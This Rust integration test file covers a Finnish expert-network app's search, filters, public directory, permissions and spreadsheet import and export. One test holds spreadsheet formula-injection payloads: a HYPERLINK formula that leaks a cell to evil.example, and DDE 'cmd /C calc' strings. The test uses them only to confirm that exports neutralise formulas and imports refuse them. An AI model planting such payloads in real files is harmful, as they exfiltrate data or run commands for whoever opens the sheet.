//! The expert network through the real router: Finnish search (inflection
//! and compounds, with the reasons), filters, pauses, the public directory,
//! channels in the same search, and spreadsheet import/export.

use crate::helpers::*;
use otalusta_domain::role::Role;
use serde_json::Value;

/// Creates a profile through the coordinator's form; returns its id.
async fn create_expert(app: &TestApp, c: &reqwest::Client, fields: &[(&str, &str)]) -> i64 {
    // Defaults, unless the fields name them.
    let defaults = [
        ("area", "ita-suomi"),
        ("sectors", "social"),
        ("languages", "fi"),
    ];
    let given: Vec<&str> = fields.iter().map(|(k, _)| *k).collect();
    let mut merged: Vec<(&str, &str)> = defaults
        .iter()
        .filter(|(k, _)| !given.contains(k))
        .copied()
        .collect();
    merged.extend_from_slice(fields);
    let res = app.post_form(c, "/experts/new", "/experts", &merged).await;
    assert_eq!(res.status(), 303, "expert created: {:?}", res.text().await);
    let loc = res.headers()["location"].to_str().unwrap().to_owned();
    loc.trim_start_matches("/experts/")
        .split('?')
        .next()
        .unwrap()
        .parse()
        .unwrap()
}

pub(crate) async fn search(app: &TestApp, c: &reqwest::Client, query: &[(&str, &str)]) -> Value {
    let res = c
        .get(app.url("/api/v1/experts"))
        .query(query)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    res.json().await.unwrap()
}

pub(crate) fn names(v: &Value) -> Vec<String> {
    v["hits"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["name"].as_str().unwrap().to_owned())
        .collect()
}

const TEST_EXPERTS: [&str; 5] = [
    "Aino Riitamaa",
    "Eero Väkevä",
    "Iida Sijainen",
    "Olli Koulunen",
    "Unto Päihtynen",
];

#[tokio::test]
async fn inflected_and_compound_finnish_queries_find_the_right_profiles() {
    let app = TestApp::spawn().await;
    let coordinator = app.login(Role::Coordinator).await;
    // Each knows one thing, written in its base form.
    for (name, email, text) in [
        ("Aino Riitamaa", "aino@x.fi", "Erikoisalani on huoltoriita."),
        (
            "Eero Väkevä",
            "eero@x.fi",
            "Tunnen lähisuhdeväkivalta-asiat.",
        ),
        ("Iida Sijainen", "iida@x.fi", "Työni on sijaishuolto."),
        (
            "Olli Koulunen",
            "olli@x.fi",
            "Olen työskennellyt koulukoti-ympäristössä.",
        ),
        ("Unto Päihtynen", "unto@x.fi", "Hoidan päihde-ongelmia."),
    ] {
        create_expert(
            &app,
            &coordinator,
            &[
                ("name", name),
                ("title", "konsultti"),
                ("email", email),
                ("phenomena", "trauma"),
                ("description_fi", text),
            ],
        )
        .await;
    }
    // A reform school is out-of-home care (Lastensuojelulaki 49 §), so
    // "sijaishuollossa" also finds its expert; not the other way round.
    for (query, want, also) in [
        ("huoltoriidoissa", "Aino Riitamaa", None),
        ("lähisuhdeväkivallasta", "Eero Väkevä", None),
        ("sijaishuollossa", "Iida Sijainen", Some("Olli Koulunen")),
        ("koulukodeissa", "Olli Koulunen", None),
        ("päihteitä", "Unto Päihtynen", None),
    ] {
        let v = search(&app, &coordinator, &[("q", query), ("kind", "experts")]).await;
        let found = names(&v);
        assert!(
            found.contains(&want.to_owned()),
            "{query} finds {want}: {found:?}"
        );
        if let Some(also) = also {
            assert!(found.contains(&also.to_owned()), "{query} finds {also}");
        }
        for other in TEST_EXPERTS
            .iter()
            .filter(|n| **n != want && Some(**n) != also)
        {
            assert!(
                !found.contains(&other.to_string()),
                "{query} does not find {other}: {found:?}"
            );
        }
        // The reason names the word and what it matched.
        let hit = v["hits"]
            .as_array()
            .unwrap()
            .iter()
            .find(|h| h["name"] == want)
            .unwrap();
        let reasons = hit["reasons"].to_string();
        assert!(reasons.contains(query), "{query}: {reasons}");
    }
    // The reason for the first one, as the page shows it.
    let html = coordinator
        .get(app.url("/experts?q=huoltoriidoissa&kind=experts"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(html.contains("Aino Riitamaa"));
    assert!(
        html.contains("huoltoriidoissa → huoltoriita"),
        "the reason is shown"
    );
    // Phenomena match by their names and synonyms in every language.
    create_expert(
        &app,
        &coordinator,
        &[
            ("name", "Pia Tapaamo"),
            ("title", "juristi"),
            ("email", "pia@x.fi"),
            ("phenomena", "custody-disputes"),
        ],
    )
    .await;
    for query in ["huoltajuusriidoissa", "vårdnadstvister", "custody disputes"] {
        let v = search(&app, &coordinator, &[("q", query), ("kind", "experts")]).await;
        assert!(
            names(&v).contains(&"Pia Tapaamo".to_owned()),
            "{query}: {v}"
        );
    }
}

/// A synonym given to a phenomenon is recognised at once in the texts of
/// profiles not tagged with it (another language's name then finds them),
/// and a synonym taken away stops counting: the index makes again every
/// text that may name it, not only the tagged profiles'.
#[tokio::test]
async fn a_changed_synonym_is_recognised_in_untagged_texts_at_once() {
    let app = TestApp::spawn().await;
    let c = app.login(Role::Coordinator).await;
    create_expert(
        &app,
        &c,
        &[
            ("name", "Ulla Tunnisteeton"),
            ("title", "perheterapeutti"),
            ("email", "ulla@x.fi"),
            ("description_fi", "Kehitin mallin nimeltä kivijalkaperhe."),
            ("phenomena", "trauma"),
        ],
    )
    .await;
    let finds = |v: &Value| names(v).contains(&"Ulla Tunnisteeton".to_owned());
    let ask = [("q", "custody disputes"), ("kind", "experts")];
    assert!(
        !finds(&search(&app, &c, &ask).await),
        "not about custody yet"
    );
    let custody = otalusta::taxonomy::store::all(&app.state.db)
        .await
        .unwrap()
        .into_iter()
        .find(|p| p.code == "custody-disputes")
        .unwrap();
    let edit = |synonyms: String| {
        let (app, c, p) = (&app, &c, &custody);
        async move {
            let page = format!("/phenomena/{}", p.id);
            let res = app
                .post_form(
                    c,
                    &page,
                    &page,
                    &[
                        ("name_fi", &p.name_fi),
                        ("name_sv", &p.name_sv),
                        ("name_en", &p.name_en),
                        ("description_fi", &p.description_fi),
                        ("description_sv", &p.description_sv),
                        ("description_en", &p.description_en),
                        ("synonyms", &synonyms),
                        ("active", "1"),
                    ],
                )
                .await;
            assert_eq!(res.status(), 303, "saved: {:?}", res.text().await);
        }
    };
    let synonyms = custody.synonyms.clone();
    edit(format!("{synonyms}, kivijalkaperhe")).await;
    let v = search(&app, &c, &ask).await;
    assert!(finds(&v), "the new synonym names custody: {v}");
    edit(synonyms).await;
    let v = search(&app, &c, &ask).await;
    assert!(!finds(&v), "the synonym taken away: {v}");
}

#[tokio::test]
async fn filters_combine_and_paused_experts_are_not_offered() {
    let app = TestApp::spawn().await;
    let c = app.login(Role::Coordinator).await;
    let future = otalusta::groups::routes::today()
        .checked_add(jiff::Span::new().days(30))
        .unwrap()
        .to_string();
    let past = otalusta::groups::routes::today()
        .checked_sub(jiff::Span::new().days(1))
        .unwrap()
        .to_string();
    create_expert(
        &app,
        &c,
        &[
            ("name", "A Sosiaali Etä"),
            ("title", "t"),
            ("email", "a@x.fi"),
            ("phenomena", "trauma"),
            ("sectors", "social"),
            ("remote", "1"),
            ("languages", "sv"),
        ],
    )
    .await;
    create_expert(
        &app,
        &c,
        &[
            ("name", "B Terveys Etä"),
            ("title", "t"),
            ("email", "b@x.fi"),
            ("phenomena", "trauma"),
            ("sectors", "health"),
            ("remote", "1"),
        ],
    )
    .await;
    create_expert(
        &app,
        &c,
        &[
            ("name", "C Sosiaali Lähi"),
            ("title", "t"),
            ("email", "c@x.fi"),
            ("phenomena", "trauma"),
            ("sectors", "social"),
            ("regions", "etela-suomi"),
        ],
    )
    .await;
    create_expert(
        &app,
        &c,
        &[
            ("name", "D Tauolla"),
            ("title", "t"),
            ("email", "d@x.fi"),
            ("phenomena", "trauma"),
            ("sectors", "social"),
            ("remote", "1"),
            ("paused_until", &future),
        ],
    )
    .await;
    create_expert(
        &app,
        &c,
        &[
            ("name", "E Tauko ohi"),
            ("title", "t"),
            ("email", "e@x.fi"),
            ("phenomena", "trauma"),
            ("sectors", "social"),
            ("remote", "1"),
            ("paused_until", &past),
        ],
    )
    .await;

    let sorted = |v: Value| {
        let mut n = names(&v);
        n.sort();
        n
    };
    let base = [("phenomenon", "trauma"), ("kind", "experts")];
    let q = |extra: &[(&'static str, &'static str)]| {
        let mut v: Vec<(&str, &str)> = base.to_vec();
        v.extend_from_slice(extra);
        v
    };
    assert_eq!(
        sorted(search(&app, &c, &q(&[])).await),
        vec![
            "A Sosiaali Etä",
            "B Terveys Etä",
            "C Sosiaali Lähi",
            "E Tauko ohi"
        ],
        "the paused one is not offered"
    );
    assert_eq!(
        sorted(search(&app, &c, &q(&[("sector", "social"), ("remote", "1")])).await),
        vec!["A Sosiaali Etä", "E Tauko ohi"]
    );
    assert_eq!(
        sorted(search(&app, &c, &q(&[("area", "etela-suomi")])).await),
        vec!["C Sosiaali Lähi"]
    );
    assert_eq!(
        sorted(search(&app, &c, &q(&[("language", "sv"), ("sector", "social")])).await),
        vec!["A Sosiaali Etä"]
    );
    assert!(
        search(&app, &c, &q(&[("language", "sv"), ("sector", "health")])).await["hits"]
            .as_array()
            .unwrap()
            .is_empty()
    );
    let with_paused = sorted(search(&app, &c, &q(&[("paused", "1"), ("remote", "1")])).await);
    assert!(
        with_paused.contains(&"D Tauolla".to_owned()),
        "shown when asked for"
    );
    let html = c
        .get(app.url("/experts?phenomenon=trauma&paused=1&kind=experts"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        html.contains("ei tarjota uusiin konsultaatioihin"),
        "and marked as paused"
    );
}

#[tokio::test]
async fn channels_are_found_in_the_same_search() {
    let app = TestApp::spawn().await;
    let c = app.login(Role::Requester).await;
    // Which channel takes custody disputes from Itä-Suomi?
    let v = search(
        &app,
        &c,
        &[
            ("phenomenon", "custody-disputes"),
            ("area", "ita-suomi"),
            ("kind", "groups"),
        ],
    )
    .await;
    assert_eq!(names(&v), vec!["Haastavat erot -konsultaatioryhmä"]);
    assert_eq!(v["hits"][0]["kind"], "group");
    // Not from Etelä-Suomi: the group takes only its own area's requests.
    let v = search(
        &app,
        &c,
        &[
            ("phenomenon", "custody-disputes"),
            ("area", "etela-suomi"),
            ("kind", "groups"),
        ],
    )
    .await;
    assert!(names(&v).is_empty());
    // By words, inflected.
    let v = search(&app, &c, &[("q", "eroissa"), ("kind", "groups")]).await;
    assert!(
        names(&v).contains(&"Haastavat erot -konsultaatioryhmä".to_owned()),
        "{v}"
    );
    // By where they meet (the demo groups that meet in person do so in
    // Jyväskylä): found and ranked by the place, which counts as no word
    // of the query met — the topic comes first.
    let v = search(&app, &c, &[("q", "jyväskylässä"), ("kind", "groups")]).await;
    let meet_there: Vec<String> = sqlx::query_scalar(
        "SELECT name_fi FROM consultation_groups WHERE active = 1 AND place LIKE '%Jyväskylä%'",
    )
    .fetch_all(app.state.db.pool())
    .await
    .unwrap();
    assert!(!meet_there.is_empty());
    for name in &meet_there {
        assert!(names(&v).contains(name), "{name}: {v}");
    }
    let v = search(
        &app,
        &c,
        &[("q", "eroissa jyväskylässä"), ("kind", "groups")],
    )
    .await;
    assert_eq!(
        v["hits"][0]["name"], "Haastavat erot -konsultaatioryhmä",
        "{v}"
    );
    let fields: Vec<&str> = v["hits"][0]["reasons"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["field"].as_str().unwrap())
        .collect();
    assert!(fields.contains(&"place"), "{v}");
    // The remote channel meets the topic only, the others the place only.
    let v = search(
        &app,
        &c,
        &[("q", "laitoshoito jyväskylässä"), ("kind", "groups")],
    )
    .await;
    assert_eq!(
        v["hits"][0]["name"], "Integroidun laitoshoidon konsultaatio, Itä-Suomi",
        "{v}"
    );
    assert!(names(&v).len() > 1, "the place finds the others too: {v}");
    // The page says where the place was met.
    let (_, page) = crate::consultations::page(&app, &c, "/experts?q=eroissa+jyväskylässä").await;
    assert!(page.contains("Kokoontumispaikka: jyväskylässä"), "{page}");
    // The page's channel section kept the channels' ranking from its one
    // pass over both kinds; the API's channels, answered from it, rank and
    // score as a search of channels alone on an index built afresh.
    crate::consultations::page(&app, &c, "/experts?q=laitoshoito").await;
    let v = search(&app, &c, &[("q", "laitoshoito"), ("kind", "groups")]).await;
    let afresh = otalusta::experts::search::SearchIndex::build(
        &app.state.db,
        std::sync::Arc::new(otalusta::experts::search::TextAnalysis::load()),
    )
    .await
    .unwrap();
    let mut q = otalusta::experts::routes::SearchForm {
        q: "laitoshoito".into(),
        kind: "groups".into(),
        ..Default::default()
    }
    .query(false);
    q.limit = 3;
    let alone = afresh.search(&q, otalusta::groups::routes::today());
    let hits = v["hits"].as_array().unwrap();
    assert!(!alone.hits.is_empty());
    for (h, a) in hits.iter().zip(&alone.hits) {
        assert_eq!(h["score"].as_f64().unwrap() as f32, a.score, "{v}");
    }
    assert_eq!(v["total"].as_u64().unwrap() as usize, alone.total);
}

#[tokio::test]
async fn the_public_directory_shows_only_what_was_published() {
    let app = TestApp::spawn().await;
    let c = app.login(Role::Coordinator).await;
    let open = create_expert(
        &app,
        &c,
        &[
            ("name", "Julkinen Jonna"),
            ("title", "t"),
            ("email", "jonna@x.fi"),
            ("phenomena", "trauma"),
            ("listed_publicly", "1"),
        ],
    )
    .await;
    let hidden = create_expert(
        &app,
        &c,
        &[
            ("name", "Piilossa Pertti"),
            ("title", "t"),
            ("email", "pertti@x.fi"),
            ("phenomena", "trauma"),
        ],
    )
    .await;
    let anon = app.client();
    let html = anon
        .get(app.url("/experts?phenomenon=trauma"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(html.contains("Julkinen Jonna"));
    assert!(!html.contains("Piilossa Pertti"));
    let page = anon
        .get(app.url(&format!("/experts/{open}")))
        .send()
        .await
        .unwrap();
    assert_eq!(page.status(), 200);
    assert!(
        !page.text().await.unwrap().contains("jonna@x.fi"),
        "contact not published"
    );
    let res = anon
        .get(app.url(&format!("/experts/{hidden}")))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 303, "an unlisted profile needs a login");
    // Signed in, a professional sees both and the contact details.
    let r = app.login(Role::Requester).await;
    let html = r
        .get(app.url(&format!("/experts/{open}")))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(html.contains("jonna@x.fi"));
    let html = r
        .get(app.url("/experts?phenomenon=trauma"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(html.contains("Piilossa Pertti"));
}

#[tokio::test]
async fn an_expert_edits_their_own_profile_and_no_one_elses() {
    let app = TestApp::spawn().await;
    let expert = app.login(Role::Expert).await;
    let res = expert.get(app.url("/experts/me")).send().await.unwrap();
    assert_eq!(res.status(), 303, "demo-expert has a profile");
    let own = res.headers()["location"].to_str().unwrap().to_owned();
    let edit = format!("{own}/edit");
    let html = expert
        .get(app.url(&edit))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(html.contains("Mikko Hyvärinen"));
    let fields = [
        ("name", "Mikko Hyvärinen"),
        ("title", "lastenpsykiatri"),
        ("email", "demo-expert@example.invalid"),
        ("area", "ita-suomi"),
        ("sectors", "health"),
        ("phenomena", "neuropsychiatric"),
        ("languages", "fi"),
        ("paused_until", "31.1.2099"),
        ("pause_note", "tutkimusvapaa"),
    ];
    let res = app.post_form(&expert, &edit, &own, &fields).await;
    assert_eq!(res.status(), 303);
    let v = search(
        &app,
        &expert,
        &[("q", "neuropsykiatrisia"), ("kind", "experts")],
    )
    .await;
    assert!(
        !names(&v).contains(&"Mikko Hyvärinen".to_owned()),
        "paused: not offered"
    );
    // Someone else's profile: refused.
    let (other,): (i64,) = sqlx::query_as("SELECT e.id FROM experts e JOIN users u ON u.id = e.user_id WHERE u.username = 'sari.heikkinen'")
        .fetch_one(app.state.db.pool())
        .await
        .unwrap();
    let res = expert
        .get(app.url(&format!("/experts/{other}/edit")))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 403);
    let res = app
        .post_form(&expert, &edit, &format!("/experts/{other}"), &fields)
        .await;
    assert_eq!(res.status(), 403);
}

/// Uploads a file to the import form; returns (status, page).
pub(crate) async fn upload(
    app: &TestApp,
    c: &reqwest::Client,
    name: &str,
    bytes: Vec<u8>,
) -> (u16, String) {
    let token = app.csrf(c, "/experts/import").await;
    let form = reqwest::multipart::Form::new()
        .text("csrf", token)
        .text("area", "ita-suomi")
        .part(
            "file",
            reqwest::multipart::Part::bytes(bytes).file_name(name.to_owned()),
        );
    let res = c
        .post(app.url("/experts/import/upload"))
        .multipart(form)
        .send()
        .await
        .unwrap();
    (res.status().as_u16(), res.text().await.unwrap())
}

/// The preview's "import all rows" form action.
pub(crate) fn confirm_path(html: &str) -> String {
    let end = html.find("/confirm\"").expect("a confirm form") + "/confirm".len();
    let start = html[..end].rfind('"').unwrap() + 1;
    html[start..end].to_owned()
}

pub(crate) async fn expert_count(app: &TestApp) -> i64 {
    let (n,): (i64,) = sqlx::query_as("SELECT COUNT(*) FROM experts")
        .fetch_one(app.state.db.pool())
        .await
        .unwrap();
    n
}

#[tokio::test]
async fn an_import_with_one_bad_row_imports_nothing_and_names_it() {
    let app = TestApp::spawn().await;
    let c = app.login(Role::Coordinator).await;
    let before = expert_count(&app).await;
    let csv = "sähköposti;nimi;nimike;alue;sektorit;ilmiöt;kielet\n\
               uusi1@x.fi;Uusi Yksi;psykologi;Itä-Suomi;sosiaali;Lähisuhdeväkivalta;suomi\n\
               uusi2@x.fi;Uusi Kaksi;;Itä-Suomi;sosiaali;Lähisuhdeväkivalta;suomi\n\
               uusi3@x.fi;Uusi Kolme;psykologi;Itä-Suomi;sosiaali;Lähisuhdeväkivalta;suomi\n";
    let (status, html) = upload(&app, &c, "lista.csv", csv.as_bytes().to_vec()).await;
    assert_eq!(status, 422);
    assert!(
        html.contains("<td>3</td><td><code>nimike</code></td><td>Tämä tieto on pakollinen.</td>"),
        "row 3, column title: {html}"
    );
    assert_eq!(expert_count(&app).await, before, "nothing imported");
    // Fixed, it previews and then imports all three at once.
    let fixed = csv.replace("Uusi Kaksi;;", "Uusi Kaksi;sosiaalityöntekijä;");
    let (status, html) = upload(&app, &c, "lista.csv", fixed.into_bytes()).await;
    assert_eq!(status, 200, "{html}");
    assert!(html.contains("3 uutta ja 0 päivitettävää"));
    assert_eq!(expert_count(&app).await, before, "a preview stores nothing");
    let confirm = confirm_path(&html);
    let res = app.post_form(&c, "/experts", &confirm, &[]).await;
    assert_eq!(res.status(), 303);
    assert_eq!(expert_count(&app).await, before + 3);
    let res = app.post_form(&c, "/experts", &confirm, &[]).await;
    assert_eq!(res.status(), 409, "a batch imports once");
    let v = search(
        &app,
        &c,
        &[("q", "lähisuhdeväkivallasta"), ("kind", "experts")],
    )
    .await;
    let found = names(&v);
    for n in ["Uusi Yksi", "Uusi Kaksi", "Uusi Kolme"] {
        assert!(
            found.contains(&n.to_owned()),
            "{n} searchable at once: {found:?}"
        );
    }
}

#[tokio::test]
async fn export_then_import_round_trips_in_csv_and_xlsx() {
    let app = TestApp::spawn().await;
    let c = app.login(Role::Coordinator).await;
    create_expert(
        &app,
        &c,
        &[
            ("name", "Åsa Öberg"),
            ("title", "kurator"),
            ("email", "asa@x.fi"),
            ("phenomena", "school-support"),
            ("languages", "sv"),
            ("phone", "+358 40 123 4567"),
            (
                "description_fi",
                "Koulunkäynti; poissaolot, \"vaativat\" tilanteet",
            ),
        ],
    )
    .await;
    let count = expert_count(&app).await;
    for format in ["csv", "xlsx"] {
        let res = c
            .get(app.url(&format!("/experts/export.{format}?area=ita-suomi")))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 200);
        assert!(
            res.headers()["content-disposition"]
                .to_str()
                .unwrap()
                .contains(&format!(".{format}"))
        );
        let first = res.bytes().await.unwrap().to_vec();
        let (status, html) = upload(&app, &c, &format!("vienti.{format}"), first.clone()).await;
        assert_eq!(status, 200, "{format}: {html}");
        assert!(
            html.contains(&format!("0 uutta ja {count} päivitettävää")),
            "{format}: every row is an update"
        );
        let confirm = confirm_path(&html);
        let res = app.post_form(&c, "/experts", &confirm, &[]).await;
        assert_eq!(res.status(), 303);
        assert_eq!(expert_count(&app).await, count);
        if format == "csv" {
            let again = c
                .get(app.url("/experts/export.csv?area=ita-suomi"))
                .send()
                .await
                .unwrap()
                .bytes()
                .await
                .unwrap()
                .to_vec();
            assert_eq!(
                String::from_utf8(again).unwrap(),
                String::from_utf8(first).unwrap(),
                "the same file again"
            );
        }
    }
    // Another area's list is not this coordinator's.
    let res = c
        .get(app.url("/experts/export.csv?area=etela-suomi"))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 403);
}

/// The cells of an exported CSV (`;`, UTF-8 with a byte order mark).
fn csv_cells(bytes: &[u8]) -> Vec<Vec<String>> {
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// The cells of an exported XLSX's first sheet.
fn xlsx_cells(bytes: &[u8]) -> Vec<Vec<String>> {
    use calamine::Reader;
    let mut book: calamine::Xlsx<_> =
        calamine::Xlsx::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
    let range = book.worksheet_range_at(0).unwrap().unwrap();
    range
        .rows()
        .map(|r| r.iter().map(|c| c.to_string()).collect())
        .collect()
}

#[tokio::test]
async fn exports_neutralise_formulas_and_imports_refuse_them() {
    let app = TestApp::spawn().await;
    let c = app.login(Role::Coordinator).await;
    let name = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klikkaa\")";
    let title = "@SUM(1+1)";
    let description = "-2+3+cmd|' /C calc'!A0";
    create_expert(
        &app,
        &c,
        &[
            ("name", name),
            ("title", title),
            ("email", "kaava@x.fi"),
            ("phenomena", "school-support"),
            ("phone", "+358 40 123 4567"),
            ("description_fi", description),
        ],
    )
    .await;
    for format in ["csv", "xlsx"] {
        let bytes = c
            .get(app.url(&format!("/experts/export.{format}?area=ita-suomi")))
            .send()
            .await
            .unwrap()
            .bytes()
            .await
            .unwrap()
            .to_vec();
        let cells = if format == "csv" {
            csv_cells(&bytes)
        } else {
            xlsx_cells(&bytes)
        };
        for cell in cells.iter().flatten() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{format}: {cell:?} would be read as a formula"
            );
        }
        let row = cells
            .iter()
            .find(|r| r[0] == "kaava@x.fi")
            .expect("the profile is exported");
        assert_eq!(row[1], format!("'{name}"), "{format}");
        assert_eq!(row[2], format!("'{title}"), "{format}");
        assert_eq!(row[12], "'+358 40 123 4567", "{format}");
        assert_eq!(row[14], format!("'{description}"), "{format}");
        // The quotes the export added come off again on import.
        let (status, html) = upload(&app, &c, &format!("vienti.{format}"), bytes).await;
        assert_eq!(status, 200, "{format}: {html}");
        let res = app
            .post_form(&c, "/experts", &confirm_path(&html), &[])
            .await;
        assert_eq!(res.status(), 303);
        let stored: (String, String, String, String) = sqlx::query_as(
            "SELECT name, title, phone, description_fi FROM experts WHERE email = 'kaava@x.fi'",
        )
        .fetch_one(app.state.db.pool())
        .await
        .unwrap();
        assert_eq!(
            stored,
            (
                name.to_owned(),
                title.to_owned(),
                "+358 40 123 4567".to_owned(),
                description.to_owned()
            ),
            "{format}: stored as before"
        );
    }

    // A hand-made sheet with a formula imports nothing and says where; a
    // phone number and a negative number are no formulas.
    let before = expert_count(&app).await;
    let csv = "sähköposti;nimi;nimike;alue;sektorit;ilmiöt;kielet;puhelin;osaaminen\n\
               k1@x.fi;Kaava Yksi;psykologi;Itä-Suomi;sosiaali;Lähisuhdeväkivalta;suomi;+358 40 123 4567;-5\n\
               k2@x.fi;=cmd|' /C calc'!A0;psykologi;Itä-Suomi;sosiaali;Lähisuhdeväkivalta;suomi;;\n";
    let (status, html) = upload(&app, &c, "lista.csv", csv.as_bytes().to_vec()).await;
    assert_eq!(status, 422);
    assert!(
        html.contains(
            "<td>3</td><td><code>nimi</code></td><td>Taulukko-ohjelma lukisi tämän solun kaavaksi"
        ),
        "row 3, column nimi: {html}"
    );
    assert_eq!(
        html.matches("<td>3</td>").count(),
        1,
        "one problem, not also a missing name"
    );
    assert!(!html.contains("<td>2</td>"), "row 2 is fine");
    assert_eq!(expert_count(&app).await, before, "nothing imported");
    // In the user's language.
    let token = app.csrf(&c, "/experts/import?lang=sv").await;
    let form = reqwest::multipart::Form::new()
        .text("csrf", token)
        .text("area", "ita-suomi")
        .part(
            "file",
            reqwest::multipart::Part::bytes(csv.as_bytes().to_vec()).file_name("lista.csv"),
        );
    let res = c
        .post(app.url("/experts/import/upload"))
        .multipart(form)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 422);
    assert!(
        res.text()
            .await
            .unwrap()
            .contains("Ett kalkylprogram skulle läsa cellen som en formel")
    );
}

async fn search_page(app: &TestApp, c: &reqwest::Client) -> String {
    c.get(app.url("/experts?q=huoltoriidoissa&kind=experts"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap()
}

/// The search page and API hold profiles per node (`experts::cache`): a
/// profile changed through the form shows as changed on the next search;
/// a write of another node (here SQL beside the app, with the change-feed
/// row `store::update` writes) within the feed's poll; and the public
/// directory, which checks each hit's stamp, at once — so what an expert
/// unlisted on another node is never shown there.
#[tokio::test]
async fn search_hits_show_a_changed_profile() {
    let app = TestApp::spawn().await;
    let c = app.login(Role::Coordinator).await;
    let id = create_expert(
        &app,
        &c,
        &[
            ("name", "Ansa Välimies"),
            ("email", "ansa@example.invalid"),
            ("title", "sovittelija"),
            ("phenomena", "custody-disputes"),
            ("listed_publicly", "1"),
        ],
    )
    .await;
    let query = [("q", "huoltoriidoissa"), ("kind", "experts")];
    let anon = app.client();
    let public = || search_page(&app, &anon);
    assert!(names(&search(&app, &c, &query).await).contains(&"Ansa Välimies".to_owned()));
    assert!(search_page(&app, &c).await.contains("Ansa Välimies"));
    assert!(public().await.contains("Ansa Välimies"));

    // Through the form: at once.
    let form = [
        ("name", "Ansa Sovittelija"),
        ("email", "ansa@example.invalid"),
        ("title", "sovittelija"),
        ("phenomena", "custody-disputes"),
        ("listed_publicly", "1"),
        ("area", "ita-suomi"),
        ("sectors", "social"),
        ("languages", "fi"),
    ];
    let res = app
        .post_form(
            &c,
            &format!("/experts/{id}/edit"),
            &format!("/experts/{id}"),
            &form,
        )
        .await;
    assert_eq!(res.status(), 303, "{:?}", res.text().await);
    let v = search(&app, &c, &query).await;
    assert!(names(&v).contains(&"Ansa Sovittelija".to_owned()), "{v}");
    assert!(!names(&v).contains(&"Ansa Välimies".to_owned()));

    // Another node unlists it: stamped as `store::update` stamps it, and
    // not yet in this node's change feed (nor its index): only the public
    // directory's stamp check can hide it, and it does at once.
    sqlx::query("UPDATE experts SET listed_publicly = 0, updated_at = $1 WHERE id = $2")
        .bind(otalusta::core::db::now())
        .bind(id)
        .execute(app.state.db.pool())
        .await
        .unwrap();
    assert!(
        !public().await.contains("Ansa Sovittelija"),
        "unlisted on another node, still shown publicly"
    );
    // Another node renames it, stamped and announced as `store::update`
    // does (this node's index still has the old name).
    let mut tx = app.state.db.begin().await.unwrap();
    sqlx::query("UPDATE experts SET name = $1, updated_at = $2 WHERE id = $3")
        .bind("Ansa Rauhanrakentaja")
        .bind(otalusta::core::db::now())
        .bind(id)
        .execute(&mut *tx)
        .await
        .unwrap();
    otalusta::experts::store::announce(&mut tx, "expert", id)
        .await
        .unwrap();
    tx.commit().await.unwrap();
    assert!(!public().await.contains("Ansa Rauhanrakentaja"));
    // Signed in: the new name within the feed's poll, page and API.
    let mut seen = String::new();
    for _ in 0..100 {
        seen = search_page(&app, &c).await;
        if seen.contains("Ansa Rauhanrakentaja") {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert!(seen.contains("Ansa Rauhanrakentaja") && !seen.contains("Ansa Sovittelija"));
    let v = search(&app, &c, &query).await;
    assert!(
        names(&v).contains(&"Ansa Rauhanrakentaja".to_owned()),
        "{v}"
    );
}

/// Readers that search without pause while a profile is renamed again and
/// again: after each rename has been answered, the next search (page and
/// API) shows the new name and never the old one — a read begun before a
/// write and finished after it must not leave its older copy in the cache.
#[tokio::test]
async fn search_hits_stay_current_while_many_search() {
    let app = TestApp::spawn().await;
    let c = app.login(Role::Coordinator).await;
    let name = |i: usize| format!("Ansa Kierros{i}");
    let form = |name: &str| {
        [
            ("name", name.to_owned()),
            ("email", "ansa@example.invalid".to_owned()),
            ("title", "sovittelija".to_owned()),
            ("phenomena", "custody-disputes".to_owned()),
            ("area", "ita-suomi".to_owned()),
            ("sectors", "social".to_owned()),
            ("languages", "fi".to_owned()),
        ]
    };
    let fields = form(&name(0));
    let fields: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let id = create_expert(&app, &c, &fields).await;

    let hammer = Hammer::start(
        (0..6)
            .map(|i| {
                let path = ["/experts", "/api/v1/experts"][i % 2];
                (
                    c.clone(),
                    app.url(&format!("{path}?q=huoltoriidoissa&kind=experts")),
                )
            })
            .collect(),
    );
    for i in 1..=15 {
        let fields = form(&name(i));
        let fields: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let res = app
            .post_form(
                &c,
                &format!("/experts/{id}/edit"),
                &format!("/experts/{id}"),
                &fields,
            )
            .await;
        assert_eq!(res.status(), 303, "{:?}", res.text().await);
        let page = search_page(&app, &c).await;
        assert!(
            page.contains(&name(i)),
            "round {i}: page lacks the new name"
        );
        assert!(
            !page.contains(&name(i - 1)),
            "round {i}: page shows the old name"
        );
        let hits = names(&search(&app, &c, &[("q", "huoltoriidoissa"), ("kind", "experts")]).await);
        assert!(
            hits.contains(&name(i)) && !hits.contains(&name(i - 1)),
            "round {i}: {hits:?}"
        );
    }
    assert!(hammer.stop().await > 0, "the others searched meanwhile");
}
